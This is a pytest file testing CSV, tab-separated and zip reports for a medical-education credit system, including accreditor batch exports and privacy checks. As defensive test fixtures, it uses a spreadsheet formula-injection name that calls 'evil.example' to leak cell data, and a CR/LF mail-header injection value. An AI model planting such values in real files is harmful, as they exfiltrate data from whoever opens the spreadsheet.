"""Reports an organizer downloads: parsed as CSV and checked against the stored records; names that a
spreadsheet would run as formulas stay text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from builders import answers, at, roster_rows, scan, worked_example_activity
from stack_support import http

EXAMPLE_1 = [
    scan("e1", "B-1001", "Hall-A", "07:50"),
    scan("e2", "B-1001", "Room-201", "09:50"),
    scan("e3", "B-1001", "Room-201", "12:05", direction="exit"),
    scan("n1", "B-1002", "Room-201", "09:50"),
    scan("m1", "B-1005", "Hall-A", "08:00"),
    scan("m2", "B-1005", "Hall-A", "08:45", direction="exit"),
]
MISCHIEF = {
    "badge_id": "B-1005",
    "given_name": "Eve",
    "family_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "email": "eve@example.org",
    "profession": "physician",
    "degree": "MD",
}


@pytest.fixture
def meeting(api, stack, activity_id):
    from cme.auth import issue_learner_token

    stack.set_clock(datetime.fromisoformat(at("07:00")))
    assert api.put_activity(activity_id, worked_example_activity()).status == 201
    assert api.post_roster(activity_id, [*roster_rows(), MISCHIEF]).status == 200
    stack.set_clock(datetime.fromisoformat(at("12:30")))
    assert api.post_scans(activity_id, EXAMPLE_1).status == 200
    stack.settle()
    token = issue_learner_token(activity_id, "B-1001", datetime.now(UTC) + timedelta(days=400))
    body = {"answers": answers(), "attest": True, "claims": {"AMA_PRA_1": {"S1": 1.0, "S2": 2.0}}}
    assert api.evaluate(token, body).status == 202
    stack.settle()
    return activity_id


def _report(api, activity_id: str, name: str):  # type: ignore[no-untyped-def]
    return http("GET", f"{api.url}/activities/{activity_id}/reports/{name}", token=api.organizer)


def _rows(reply) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    assert reply.status == 200, reply.body
    assert reply.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in reply.headers["Content-Disposition"]
    text = reply.body.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_attendance_csv_matches_the_stored_attendance(api, meeting):
    from cme.adapters import store

    rows = _rows(_report(api, meeting, "attendance.csv"))
    stored = {(b, a.session_id): a for b, a in store.all_attendance(meeting)}
    assert {(r["badge_id"], r["session_id"]) for r in rows} == set(stored)
    for row in rows:
        attendance = stored[(row["badge_id"], row["session_id"])]
        assert int(row["minutes"]) == attendance.minutes
        assert row["explanation"] == attendance.explanation
    ana_s1 = next(r for r in rows if r["badge_id"] == "B-1001" and r["session_id"] == "S1")
    assert ana_s1["AMA_PRA_1"] == "1.5" and ana_s1["ANCC"] == "" and ana_s1["date"] == "2027-10-14"
    nurse_s2 = next(r for r in rows if r["badge_id"] == "B-1002" and r["session_id"] == "S2")
    assert nurse_s2["ANCC"] == "1.75" and nurse_s2["AMA_PRA_1"] == ""  # a nurse's row shows nursing credit
    assert "B-1005" in {r["badge_id"] for r in rows}


def test_claims_csv_matches_the_claims_and_certificates(api, meeting):
    from cme.adapters import store
    from cme.auth import certificate_id

    rows = _rows(_report(api, meeting, "claims.csv"))
    assert [r["badge_id"] for r in rows] == ["B-1001"]
    [row] = rows
    claim = store.get_claim(meeting, "B-1001")
    assert Decimal(row["AMA_PRA_1"]) == Decimal(str(claim["totals"]["AMA_PRA_1"])) == Decimal("3")
    assert row["claim_version"] == "1" and row["certificate_id"] == certificate_id(meeting, "B-1001")
    assert row["certificate_status"] == "valid" and row["mail"] == "sent" and row["delivery"] == "delivered"


def test_a_name_written_as_a_formula_stays_text(api, meeting):
    rows = _rows(_report(api, meeting, "attendance.csv"))
    [eve] = [r for r in rows if r["badge_id"] == "B-1005"]
    assert eve["family_name"] == "'" + MISCHIEF["family_name"]
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def test_unknown_reports_and_strangers_are_refused(api, stack, meeting):
    from builders import http_event, organizer_claims

    reply = _report(api, meeting, "budget.xlsx")
    assert reply.status == 404 and "attendance.csv" in reply.json["error"]["message"]
    assert http("GET", f"{api.url}/activities/{meeting}/reports/claims.csv").status == 401
    event = http_event(
        "GET",
        f"/activities/{meeting}/reports/claims.csv",
        route="/activities/{activity_id}/reports/{name}",
        path_parameters={"activity_id": meeting, "name": "claims.csv"},
        claims=organizer_claims(activities="another-activity"),
    )
    assert stack.host.invoke("OrganizerApiFunction", event)["statusCode"] == 403


def test_evaluations_csv_summarises_answers_without_naming_anyone(api, stack, meeting):
    from cme.auth import issue_learner_token

    token = issue_learner_token(meeting, "B-1002", datetime.now(UTC) + timedelta(days=400))
    body = {
        "answers": answers(
            objectives_met=3,
            overall_quality=4,
            free_of_commercial_bias="no",
            free_of_commercial_bias_comment="One device brand on every slide.",
            practice_change="Daily weights for every heart failure patient.",
        ),
        "attest": True,
    }
    assert api.evaluate(token, body).status == 202
    stack.settle()
    reply = _report(api, meeting, "evaluations.csv")
    rows = _rows(reply)
    by = {(r["section"], r["question_id"]): r for r in rows if r["section"] in ("rating", "answers", "free text")}
    objectives = by[("rating", "objectives_met")]
    assert objectives["responses"] == "2" and objectives["mean"] == "4.00"
    assert objectives["distribution"] == "1:0 2:0 3:1 4:0 5:1" and objectives["scope"] == "ACTIVITY"
    assert by[("answers", "free_of_commercial_bias")]["distribution"] == "yes:1 no:1"
    [comment] = [r for r in rows if r["section"] == "comment"]
    assert (comment["answer"], comment["comment"]) == ("no", "One device brand on every slide.")
    texts = {r["answer"] for r in rows if r["section"] == "text" and r["question_id"] == "practice_change"}
    assert texts == {
        "Earlier lactate measurement in suspected sepsis.",
        "Daily weights for every heart failure patient.",
    }
    content = reply.body.decode("utf-8-sig")
    for personal in ("B-1001", "B-1002", "Pérez", "Żółć", "@example.org"):
        assert personal not in content


def test_the_post_event_package_holds_counts_participants_and_every_report(api, meeting):
    import zipfile

    reply = _report(api, meeting, "post-event.zip")
    assert reply.status == 200 and reply.headers["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(reply.body))
    assert archive.testzip() is None
    names = sorted(name.split("/", 1)[1] for name in archive.namelist())
    assert names == sorted(
        ["README.txt", "summary.csv", "participants.csv", "attendance.csv", "claims.csv", "evaluations.csv"]
    )

    def table(name: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(archive.read(f"{meeting}/{name}").decode("utf-8-sig"))))

    summary = {row["measure"]: row["value"] for row in table("summary.csv")}
    assert summary["registered"] == "6" and summary["attended at least one session"] == "3"
    assert summary["learners who claimed credit"] == "1" and summary["certificates issued"] == "1"
    assert summary["credit claimed: AMA_PRA_1"] == "3.0" and summary["registered: physician"] == "3"
    participants = {row["badge_id"]: row for row in table("participants.csv")}
    assert participants["B-1001"]["sessions_attended"] == "2" and participants["B-1001"]["minutes"] == "205"
    assert participants["B-1001"]["AMA_PRA_1"] == "3.0" and participants["B-1003"]["sessions_attended"] == "0"
    everything = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8")
    assert "@example.org" not in everything and "123456" not in everything  # no email, no board id
    assert table("claims.csv") == _rows(_report(api, meeting, "claims.csv"))


# ---- accreditor batches: ACCME PARS (MOC) and NABP CPE Monitor (ACPE) --------------------------------

DAY_2 = "2027-10-15"
UAN_S1 = "0204-0000-27-001-L01-P"
UAN_S2 = "0204-0000-27-002-L01-P"
UAN_ACTIVITY = "0204-0000-27-100-L04-P"  # S3 and S5 have no UAN of their own: one ACPE activity of two sessions


def accreditor_activity() -> dict:  # type: ignore[type-arg]
    """Physicians and pharmacists at one meeting: MOC for ABIM and ABP, ACPE per session or per activity."""
    return worked_example_activity(
        credit_types={"AMA_PRA_1": {"max": 21.5}, "ACPE": {"max": 21.5}},
        moc={"boards": ["ABIM", "ABP"]},
        pars_activity_id="202714207",
        acpe_uan=UAN_ACTIVITY,
        sessions=[
            {
                "session_id": "S1",
                "title": "Sepsis update",
                "room": "Hall-A",
                "starts_at": at("08:00"),
                "ends_at": at("09:30"),
                "credits": {"AMA_PRA_1": 1.5, "ACPE": 1.5},
                "acpe_uan": UAN_S1,
            },
            {
                "session_id": "S2",
                "title": "Heart failure in primary care",
                "room": "Room-201",
                "starts_at": at("09:45"),
                "ends_at": at("12:00"),
                "credits": {"AMA_PRA_1": 2.0, "ACPE": 2.0},
                "breaks": [{"starts_at": at("10:45"), "ends_at": at("11:00")}],
                "acpe_uan": UAN_S2,
            },
            {
                "session_id": "S3",
                "title": "Anticoagulation, part 1",
                "room": "Hall-A",
                "starts_at": at("13:00"),
                "ends_at": at("14:00"),
                "credits": {"AMA_PRA_1": 1.0, "ACPE": 1.0},
            },
            {  # 19:00 in Chicago is already the next day in UTC: dates must be the activity's
                "session_id": "S5",
                "title": "Anticoagulation, part 2",
                "room": "Room-201",
                "starts_at": at("19:00", DAY_2),
                "ends_at": at("20:00", DAY_2),
                "credits": {"AMA_PRA_1": 1.0, "ACPE": 1.0},
            },
        ],
    )


def _person(badge: str, given: str, family: str, profession: str, **fields) -> dict:  # type: ignore[no-untyped-def, type-arg]
    degree = {"physician": "MD", "pharmacist": "PharmD"}[profession]
    email = f"{badge.lower()}@example.org"
    return {"badge_id": badge, "given_name": given, "family_name": family, "email": email, **fields} | {
        "profession": profession,
        "degree": degree,
    }


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ACCREDITOR_ROSTER = [
    # physicians: who is in the PARS batch, and why the others are not
    _person("D-1", "Ana", "Pérez", "physician", moc_consent=True, birth_mmdd="0314",
            board_ids={"ABIM": "123456", "ABP": "778899", "ABFM": "555000"}),  # ABFM: not offered
    _person("D-2", "Bo", "Nobody", "physician", moc_consent=True, birth_mmdd="0402"),  # no board id
    _person("D-3", "Cy", "Surgeon", "physician", moc_consent=True, birth_mmdd="0505", board_ids={"ABS": "999111"}),
    _person("D-4", "Di", "Nobirth", "physician", moc_consent=True, board_ids={"ABIM": "222333"}),
    _person("D-5", "Ed", "Noconsent", "physician", birth_mmdd="0606", board_ids={"ABIM": "444555"}),
    _person("D-6", "Flo", "Declined", "physician", moc_consent=True, birth_mmdd="0707", board_ids={"ABIM": "666777"}),
    _person("D-7", "Eve Mallory Q", FORMULA, "physician", moc_consent=True, birth_mmdd="0101",
            board_ids={"ABIM": "424242"}),
    # pharmacists: who is in the CPE Monitor batch
    _person("R-1", "Dmitri", "Ivanov", "pharmacist", nabp_eprofile_id="1234567", birth_mmdd="1102"),
    _person("R-2", "Gil", "Partial", "pharmacist", nabp_eprofile_id="2345678", birth_mmdd="1203"),
    _person("R-3", "Hana", "Noprofile", "pharmacist", birth_mmdd="0809"),
    _person("R-4", "Ivo", "Nobirth", "pharmacist", nabp_eprofile_id="3456789"),
    _person("R-5", "Jo Tab", FORMULA, "pharmacist", nabp_eprofile_id="4567890", birth_mmdd="0910"),
]  # fmt: skip


def _day_one(prefix: str, badge: str, *, s1_exit: str | None = None, s3: bool = False) -> list[dict]:  # type: ignore[type-arg]
    """S1 (whole, or leaving at `s1_exit`), S2 whole, and S3 whole when asked."""
    scans = [scan(f"{prefix}1", badge, "Hall-A", "07:55")]
    if s1_exit:
        scans.append(scan(f"{prefix}2", badge, "Hall-A", s1_exit, direction="exit"))
    scans += [scan(f"{prefix}3", badge, "Room-201", "09:40"), scan(f"{prefix}4", badge, "Room-201", "12:05", "exit")]
    if s3:
        scans += [scan(f"{prefix}5", badge, "Hall-A", "12:55"), scan(f"{prefix}6", badge, "Hall-A", "14:05", "exit")]
    return scans


def _day_two_s5(prefix: str, badge: str) -> list[dict]:  # type: ignore[type-arg]
    return [
        scan(f"{prefix}7", badge, "Room-201", "18:55", scanned_at=at("18:55", DAY_2)),
        scan(f"{prefix}8", badge, "Room-201", "20:05", direction="exit", scanned_at=at("20:05", DAY_2)),
    ]


ACCREDITOR_SCANS = [
    *[s for badge in ("D-1", "D-2", "D-3", "D-4", "D-5", "D-6", "D-7") for s in _day_one(badge, badge)],
    *_day_one("R-1", "R-1", s3=True),
    *_day_two_s5("R-1", "R-1"),
    *_day_one("R-2", "R-2", s1_exit="08:30", s3=True),  # 30 of S1's 90 minutes: no ACPE for S1; no S5
    *_day_one("R-3", "R-3"),
    *_day_one("R-4", "R-4"),
    *_day_one("R-5", "R-5"),
]
CLAIMS = {
    "D-1": {"AMA_PRA_1": {"S1": 1.0}},  # claims less than S1 earned: 1.0 + 2.0
    "D-6": {"AMA_PRA_1": {"S1": 0, "S2": 0}},  # declines all credit
    "R-2": {"ACPE": {"S2": 0}},  # declines S2 (half of it would be refused: ACPE has no partial credit)
}
EVALUATED_AT = at("23:30", DAY_2)  # 2027-10-16 04:30 UTC, still the 15th in Chicago


@pytest.fixture
def accreditor_meeting(api, stack, activity_id):
    from cme.auth import issue_learner_token

    stack.set_clock(datetime.fromisoformat(at("07:00")))
    assert api.put_activity(activity_id, accreditor_activity()).status == 201
    reply = api.post_roster(activity_id, ACCREDITOR_ROSTER)
    assert reply.status == 200 and reply.json["created"] == len(ACCREDITOR_ROSTER), reply.body
    stack.set_clock(datetime.fromisoformat(at("21:00", DAY_2)))
    assert api.post_scans(activity_id, ACCREDITOR_SCANS).status == 200
    stack.settle()
    stack.set_clock(datetime.fromisoformat(EVALUATED_AT))
    for person in ACCREDITOR_ROSTER:
        token = issue_learner_token(activity_id, person["badge_id"], datetime.now(UTC) + timedelta(days=400))
        body = {"answers": answers(), "attest": True, "claims": CLAIMS.get(person["badge_id"])}
        reply = api.evaluate(token, {k: v for k, v in body.items() if v is not None})
        assert reply.status == 202, reply.body
    stack.settle()
    return activity_id


def _excluded(reply) -> dict[str, int]:  # type: ignore[no-untyped-def]
    value = reply.headers["X-CME-Excluded"]
    return {name: int(count) for name, count in (item.strip().split("=") for item in value.split(","))}


def _pars_rows(reply) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    assert reply.status == 200, reply.body
    assert reply.headers["Content-Type"].startswith("text/tab-separated-values")
    assert (
        "attachment" in reply.headers["Content-Disposition"]
        and "pars-learners.txt" in reply.headers["Content-Disposition"]
    )
    assert not reply.body.startswith(b"\xef\xbb\xbf")  # no byte-order mark in an upload
    text = reply.body.decode("utf-8")
    lines = text.split("\r\n")
    assert lines[-1] == "" and all("\n" not in line and "\r" not in line for line in lines)
    rows = list(csv.reader(io.StringIO(text, newline=""), dialect="excel-tab"))
    assert rows[0] == [
        "Activity ID", "Learner First Name", "Learner Last Name", "Board", "Board ID", "DOB (MMDD)",
        "Completion Date", "MOC Points",
    ]  # fmt: skip
    assert all(len(row) == len(rows[0]) for row in rows)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _local_date(moment: str) -> str:
    from zoneinfo import ZoneInfo

    return datetime.fromisoformat(moment).astimezone(ZoneInfo("America/Chicago")).strftime("%m/%d/%Y")


def test_pars_batch_reports_consenting_physicians_per_board_with_points_equal_to_credit_claimed(
    api, accreditor_meeting
):
    from cme.adapters import store

    reply = _report(api, accreditor_meeting, "pars-learners.txt")
    rows = _pars_rows(reply)
    got = {(r["Learner Last Name"], r["Board"]): r for r in rows}
    assert set(got) == {("Pérez", "ABIM"), ("Pérez", "ABP"), ("'" + FORMULA, "ABIM")}
    order = [(r["Learner Last Name"], r["Board"]) for r in rows]  # by family name, then the activity's boards
    assert order == [("'" + FORMULA, "ABIM"), ("Pérez", "ABIM"), ("Pérez", "ABP")]
    assert (got[("Pérez", "ABIM")]["Board ID"], got[("Pérez", "ABP")]["Board ID"]) == ("123456", "778899")
    for (family, _board), row in got.items():
        badge = "D-1" if family == "Pérez" else "D-7"
        person = next(p for p in ACCREDITOR_ROSTER if p["badge_id"] == badge)
        claim = store.get_claim(accreditor_meeting, badge)
        assert row["Activity ID"] == "202714207"
        assert row["DOB (MMDD)"] == person["birth_mmdd"]
        assert Decimal(row["MOC Points"]) == Decimal(str(claim["totals"]["AMA_PRA_1"]))
        assert row["Completion Date"] == _local_date(claim["submitted_at"]) == "10/15/2027"  # not UTC's 10/16
    assert Decimal(got[("Pérez", "ABIM")]["MOC Points"]) == Decimal("3")  # claimed, not the 3.5 earned
    eve = got[("'" + FORMULA, "ABIM")]
    assert eve["Learner First Name"] == "Eve Mallory Q" and eve["Board ID"] == "424242"
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
    # D-2 has no board id and D-3 only one for a board the activity does not offer; D-6 claimed nothing
    assert _excluded(reply) == {"no_moc_consent": 1, "no_board_id": 2, "no_birth_date": 1}


def _cpe_rows(reply) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    assert reply.status == 200, reply.body
    assert reply.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(reply.body.decode("utf-8-sig"), newline="")))
    assert rows[0] == [
        "epid", "date_of_birth", "uan", "date_of_participation", "participant_type", "contact_hours",
        "last_name", "first_name",
    ]  # fmt: skip
    assert all(len(row) == len(rows[0]) for row in rows)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_cpe_monitor_batch_reports_each_uan_a_pharmacist_earned_whole(api, accreditor_meeting):
    from cme.adapters import store

    reply = _report(api, accreditor_meeting, "cpe-monitor.csv")
    rows = _cpe_rows(reply)
    got = {(r["epid"], r["uan"]): r for r in rows}
    dmitri_rows = {("1234567", UAN_S1), ("1234567", UAN_S2), ("1234567", UAN_ACTIVITY)}
    assert set(got) == dmitri_rows | {("4567890", UAN_S1), ("4567890", UAN_S2)}
    activity = store.get_activity(accreditor_meeting)
    designations = {s.session_id: s.credits["ACPE"] for s in activity.sessions}
    dmitri = store.get_claim(accreditor_meeting, "R-1")["claimed"]["ACPE"]
    assert {sid: Decimal(str(v)) for sid, v in dmitri.items()} == designations  # every session claimed whole
    expected = {
        UAN_S1: (designations["S1"], "10/14/2027"),
        UAN_S2: (designations["S2"], "10/14/2027"),
        UAN_ACTIVITY: (designations["S3"] + designations["S5"], "10/15/2027"),  # S5's day in Chicago
    }
    for uan, (hours, day) in expected.items():
        row = got[("1234567", uan)]
        assert Decimal(row["contact_hours"]) == hours and row["date_of_participation"] == day
        assert (row["date_of_birth"], row["participant_type"]) == ("1102", "P")
        assert (row["last_name"], row["first_name"]) == ("Ivanov", "Dmitri")
    eve = got[("4567890", UAN_S1)]
    assert eve["last_name"] == "'" + FORMULA and eve["first_name"] == "Jo Tab"
    assert Decimal(eve["contact_hours"]) == Decimal("1.5") and eve["date_of_birth"] == "0910"
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
    # S1 not earned whole (no ACPE at all), S2 declined, S3 without S5; lack ids
    gil = store.get_claim(accreditor_meeting, "R-2")["claimed"]["ACPE"]
    assert set(gil) == {"S3"}
    assert "2345678" not in {r["epid"] for r in rows}
    assert _excluded(reply) == {
        "no_eprofile_id": 1,
        "no_birth_date": 1,
        "no_uan": 0,
        "uan_for_technicians": 0,
        "partial_claim": 0,  # refused when claimed; counted for claims stored before that rule
        "incomplete_uan": 1,  # S3 without S5 (the declined S2 is no exclusion: nothing claimed)
    }


def test_a_session_without_a_uan_or_with_a_technician_uan_is_counted_not_reported(api, stack, activity_id):
    from cme.auth import issue_learner_token

    body = accreditor_activity()
    body["acpe_uan"] = None
    body["sessions"] = body["sessions"][:2]
    body["sessions"][0]["acpe_uan"] = "0204-0000-27-001-L01-T"  # for pharmacy technicians only
    body["sessions"][1]["acpe_uan"] = None
    stack.set_clock(datetime.fromisoformat(at("07:00")))
    assert api.put_activity(activity_id, body).status == 201
    assert api.post_roster(activity_id, [ACCREDITOR_ROSTER[7]]).status == 200
    stack.set_clock(datetime.fromisoformat(at("12:30")))
    assert api.post_scans(activity_id, _day_one("x", "R-1")).status == 200
    stack.settle()
    token = issue_learner_token(activity_id, "R-1", datetime.now(UTC) + timedelta(days=400))
    assert api.evaluate(token, {"answers": answers(), "attest": True}).status == 202
    stack.settle()
    reply = _report(api, activity_id, "cpe-monitor.csv")
    assert _cpe_rows(reply) == []
    excluded = _excluded(reply)
    assert (excluded["no_uan"], excluded["uan_for_technicians"], sum(excluded.values())) == (1, 1, 2)


def test_a_batch_the_activity_cannot_have_is_refused_with_what_is_missing(api, meeting):
    pars = _report(api, meeting, "pars-learners.txt")  # the worked example offers no MOC and no ACPE
    assert pars.status == 409 and "moc.boards" in pars.json["error"]["message"]
    cpe = _report(api, meeting, "cpe-monitor.csv")
    assert cpe.status == 409 and "ACPE" in cpe.json["error"]["message"]
    assert _report(api, meeting, "claims.csv").headers.get("X-CME-Excluded") is None


def test_the_post_event_package_still_parses_and_holds_no_accreditor_ids(api, accreditor_meeting):
    import zipfile

    reply = _report(api, accreditor_meeting, "post-event.zip")
    assert reply.status == 200
    archive = zipfile.ZipFile(io.BytesIO(reply.body))
    assert archive.testzip() is None
    names = sorted(name.split("/", 1)[1] for name in archive.namelist())
    assert names == sorted(
        ["README.txt", "summary.csv", "participants.csv", "attendance.csv", "claims.csv", "evaluations.csv"]
    )
    claims = list(csv.DictReader(io.StringIO(archive.read(f"{accreditor_meeting}/claims.csv").decode("utf-8-sig"))))
    assert {r["badge_id"] for r in claims} == {p["badge_id"] for p in ACCREDITOR_ROSTER}
    everything = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8")
    for private in ("123456", "778899", "424242", "1234567", "4567890", "@example.org"):
        assert private not in everything


@pytest.mark.parametrize("name", ["Eve\tMallory", "Eve\r\nBcc: x@example.org", "Eve\u2028Q", "Eve\x00"])
def test_a_roster_name_with_a_line_break_or_control_character_is_rejected(api, activity_id, name):
    """Names go into mail headers, certificates and report rows: a pasted tab or CR/LF is refused
    with the row and field named, and the other rows are kept."""
    api.put_activity(activity_id, worked_example_activity())
    row = roster_rows()[0]
    rows = [dict(row, badge_id="B-OK"), dict(row, badge_id="B-BAD", family_name=name)]
    reply = api.post_roster(activity_id, rows)
    assert reply.status == 200, reply.body
    assert reply.json["created"] == 1
    (rejected,) = reply.json["rejected"]
    assert rejected["row"] == 2 and "family_name" in rejected["error"] and "control characters" in rejected["error"]
